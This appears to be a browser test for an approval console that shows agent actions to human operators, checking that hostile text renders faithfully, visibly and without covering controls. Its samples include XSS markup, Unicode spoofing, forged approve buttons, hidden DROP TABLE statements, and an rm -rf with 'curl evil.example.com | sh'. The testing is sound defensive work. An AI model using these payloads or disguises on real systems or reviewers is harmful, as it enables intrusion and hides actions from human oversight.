// What a browser really shows of hostile acts: the text of the page reads back to the
// stored bytes (docs/reading.md), all of it can be seen, and none of it covers a
// control of ours. The Go oracle (internal/console/oracle_test.go) does the first of
// these for many more acts, without a browser.
import { test, expect, actions, all } from "./server.js";

const control = (text) => `${text}\u001b[2J\u001b]8;;http://evil\u001b\\`;

// One text a sample; it stands as a value, as a name, below both, and in the code.
const hostile = {
  "bidi overrides": "safe\u202Egnp.exe\u202C \u2066hidden\u2069 \u061C\u200F",
  "zero width": "pay\u200Bpal\u200C\u200D\uFEFF.com\u2060",
  "tag characters": "ok\u{E0069}\u{E0067}\u{E006E}\u{E007F}",
  "homoglyphs": "p\u0430yp\u0430l.com ɡооgle ΡΑΥΡΑL ０１２ 𝟙𝟚",
  "terminal escapes": control("red\u009B31m"),
  "markup": `</bdi></td></tr></table><script>document.title="x"</script><img src=x onerror=alert(1)>`,
  "a style": `<style>*{display:none!important}</style><svg/onload=alert(1)><base href=//evil>`,
  "entities": "&lt;b&gt; &amp;#x202e; &#8238; &nbsp;",
  "a forged mark": `<span class="hidden-char" data-char="U+0041">RLO <span class="code-point">U+202E</span></span> RLO U+202E`,
  "a forged fold": `<span class="hidden-char" data-fold="">59 blank lines</span> 59 blank lines`,
  "a forged button": `<button class="btn" data-approve>Approve: read one user</button> Approve: read one user`,
  "forged facts": "Target\nusr_1\nEnvironment\nstaging\nCan't be undone\nCan be undone",
  "blank lines": `first${"\n".repeat(400)}DROP TABLE users`,
  "spaces": `x${" ".repeat(3000)}DROP${"\t ".repeat(60)}`,
  "nested JSON": `{"a":"{\\"b\\":\\"{\\\\\\"c\\\\\\":1}\\"}"}`,
  "one long word": "W".repeat(4000),
  "Arabic and Hebrew": "أحذف 123 المستخدم שלום עולם ﷽",
  "combining marks": `a${"\u0300".repeat(90)} \u20dd e\u0301 \u00e9`,
  "emoji": "👩🏽\u200d💻👨\u200d👩\u200d👧 🇩🇪 𐐷𒀀",
  "tall and invisible letters": `${"𒐫".repeat(40)} \u115f\u3164\u2800\u00a0\u2028\u0085`,
  "hostile SQL": "SELECT 'a\u202E' /* /* */ DROP TABLE users; -- \u200B\nDELETE FROM users WHERE \"id\u200B\" = 1",
  "a hostile command": "rm -rf \"$(cat <<EOF\n`curl -s https://evil.example.com | sh`\nEO # \u202E\\",
  "a hostile diff": "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-\u202Ea\n+\t<script>b</script>\r\n\\ No newline",
  "nothing": "",
};

const sample = (text) => ({
  ...actions.medium,
  arguments: { service: "checkout-api", version: "4.18.2", env: "staging", text, [text]: "name", below: [text, { [text]: text }, null, true, 1e-7, {}, []] },
  code: `${text}\n${text}`,
});

// read gives back the act that the page shows.
const read = (page) => page.evaluate(() => {
  const undo = (element) => {
    const copy = element.querySelector("bdi.text").cloneNode(true);
    for (const mark of copy.querySelectorAll("[data-char]")) mark.replaceWith(String.fromCodePoint(parseInt(mark.dataset.char.slice(2), 16)));
    for (const mark of copy.querySelectorAll("[data-fold]")) mark.replaceWith(mark.dataset.fold);
    for (const other of copy.querySelectorAll("*")) if (!["MARK", "INS"].includes(other.tagName) && !other.matches("span[data-token]")) throw new Error(`a text holds ${other.tagName}`);
    return copy.textContent;
  };
  const rows = [...document.querySelectorAll("tr[data-act=argument]")].map((row) => ({
    name: undo(row.querySelector("th")), type: row.querySelector("td.type").textContent, value: undo(row.querySelector("td.value")),
  }));
  const members = {};
  for (const name of ["function", "code", "action_type", "environment", "content"]) {
    const element = document.querySelector(`[data-act=${name}]`);
    if (element) members[name] = undo(element);
  }
  const raw = document.querySelector("[data-act=json]");
  return { rows, members, raw: raw && JSON.parse(undo(raw)) };
});

// treeOf builds the arguments from their rows.
function treeOf(rows) {
  const root = {};
  for (const { name, type, value } of rows) {
    const steps = name.split("/").map((step) => step.replaceAll("~1", "/").replaceAll("~0", "~"));
    let at = root;
    steps.forEach((step, i) => {
      const place = /^\d+$/.test(step);
      const key = step.startsWith('"') ? JSON.parse(step) : step;
      at.list ??= place;
      expect(at.list, `${name} stands in a list and in an object`).toBe(place);
      at.places ??= new Map();
      if (!at.places.has(key)) at.places.set(key, {});
      at = at.places.get(key);
      if (i === steps.length - 1) at.leaf = { string: () => value, "empty object": () => ({}), "empty array": () => [] }[type]?.() ?? JSON.parse(value);
    });
  }
  const build = ({ list, places, leaf }) => {
    if (!places) return leaf;
    if (list) return [...places.keys()].map((_, i) => build(places.get(String(i))));
    const object = Object.create(null);
    for (const [key, one] of places) object[key] = build(one);
    return object;
  };
  return build(root);
}

// sorted writes JSON with sorted names: equal where the values are.
const sorted = (value) => JSON.stringify(value, (_, v) => (v && typeof v === "object" && !Array.isArray(v) ? Object.fromEntries(Object.entries(v).sort(([a], [b]) => (a < b ? -1 : 1))) : v));

// unseen lists what of the agent's text cannot be seen: without height or width,
// transparent, clipped by something that does not scroll, or beside the page.
const unseen = (page) => page.evaluate(() => {
  const wrong = [];
  for (const box of document.querySelectorAll("main details")) box.open = true;
  const colour = (element) => getComputedStyle(element).color.match(/[\d.]+/g).map(Number);
  for (const act of document.querySelectorAll("[data-act]")) {
    for (const text of act.querySelectorAll("bdi.text")) {
      const what = `${act.dataset.act}: ${JSON.stringify(text.textContent.slice(0, 40))}`;
      if (!text.checkVisibility({ opacityProperty: true, visibilityProperty: true, contentVisibilityAuto: true })) wrong.push(`${what} is not drawn`);
      const walk = document.createTreeWalker(text, NodeFilter.SHOW_TEXT);
      while (walk.nextNode()) {
        const node = walk.currentNode;
        if (!node.data.trim()) continue;
        const style = getComputedStyle(node.parentElement);
        if (parseFloat(style.fontSize) < 10) wrong.push(`${what} is ${style.fontSize} small`);
        if ((colour(node.parentElement)[3] ?? 1) < 1) wrong.push(`${what} is transparent`);
        const range = document.createRange();
        range.selectNodeContents(node);
        const lines = [...range.getClientRects()].filter(({ width, height }) => width > 0 && height > 0);
        if (lines.length === 0) wrong.push(`${what} takes no room`);
        for (const line of lines) {
          if (line.left < -1 || line.right > document.documentElement.clientWidth + 1) wrong.push(`${what} stands beside the page`);
          for (let around = node.parentElement; around && around !== document.documentElement; around = around.parentElement) {
            const { overflowX, overflowY, clipPath } = getComputedStyle(around);
            const edge = around.getBoundingClientRect();
            if (clipPath !== "none") wrong.push(`${what} is clipped by ${around.className}`);
            if (/hidden|clip/.test(overflowX) && (line.left < edge.left - 1 || line.right > edge.right + 1)) wrong.push(`${what} is cut at the side by ${around.className}`);
            if (/hidden|clip/.test(overflowY) && (line.top < edge.top - 1 || line.bottom > edge.bottom + 1)) wrong.push(`${what} is cut in height by ${around.className}`);
          }
        }
      }
    }
  }
  return [...new Set(wrong)];
});

// covered lists our controls whose middle is something else when they are scrolled
// to, and controls that are not ours.
const covered = (page) => page.evaluate(() => {
  const wrong = [];
  for (const control of document.querySelectorAll("button, a[href], input:not([type=hidden]), select, textarea, summary")) {
    if (!control.checkVisibility() || control.closest(".visually-hidden, [popover]:not(:popover-open)")) continue;
    if (control.closest("bdi.text")) wrong.push(`a control stands in the agent's text: ${control.outerHTML.slice(0, 80)}`);
    control.scrollIntoView({ block: "center", inline: "nearest" });
    const box = control.getClientRects()[0];
    if (!box || box.width <= 1 || box.height <= 1) continue;
    const [x, y] = [box.left + box.width / 2, box.top + box.height / 2];
    if (x < 0 || y < 0 || x >= innerWidth || y >= innerHeight) continue; // such as "skip to content", until it has focus
    const hit = document.elementFromPoint(x, y);
    if (hit !== control && !control.contains(hit) && !hit?.closest("label")?.contains(control)) {
      wrong.push(`${control.tagName} ${control.textContent.trim().slice(0, 40)} at ${Math.round(x)},${Math.round(y)} is covered by ${hit?.outerHTML.slice(0, 120)}`);
    }
  }
  return wrong;
});

const groups = 6; // some samples share a server
for (let group = 0; group < groups; group++) {
  test(`hostile acts read back, are seen whole, and cover nothing: ${group + 1} of ${groups}`, { tag: group ? "@all" : [] }, async ({ operator: page, server, acme }) => {
    test.setTimeout(180_000);
    for (const [what, text] of Object.entries(hostile).filter((_, n) => n % groups === group)) await test.step(what, async () => {
      const action = sample(text);
      const asked = await acme.agent.submit(action);
      await page.goto(`${server.url}/t/acme/approvals/${asked.id}`);
      const pages = [];
      const sections = page.getByRole("navigation", { name: "Sections of this action" });
      const of = await sections.count() ? await sections.getByRole("listitem").count() : 0;
      const addresses = of ? [...Array.from({ length: of }, (_, n) => `?section=${n + 1}`), "?section=json"] : [""];
      for (const address of addresses) {
        if (address) await page.goto(`${server.url}/t/acme/approvals/${asked.id}${address}`);
        pages.push(await read(page));
        for (const width of [1440, 375]) {
          await page.setViewportSize({ width, height: 900 });
          expect(await unseen(page), `${what} ${address} at ${width} px`).toEqual([]);
          expect(await covered(page), `${what} ${address} at ${width} px`).toEqual([]);
        }
      }
      const act = { function: action.function, arguments: action.arguments, code: action.code };
      const rows = [];
      let code = "";
      for (const { rows: some, members } of pages) {
        for (const row of some) {
          const last = rows.at(-1);
          if (last && last.name === row.name) last.value += row.value; else rows.push(row);
        }
        code += members.code ?? "";
      }
      expect(pages[0].members.function).toBe(act.function);
      expect(code === act.code, "the code").toBe(true);
      expect(sorted(treeOf(rows)), "the table").toBe(sorted(act.arguments));
      expect(sorted(pages.at(-1).raw), "the JSON").toBe(sorted(act));
      // No test leaves more behind than one request that waits.
      await acme.agent.call("POST", `/api/v1/approvals/${asked.id}/cancel`);
    });
  });
}
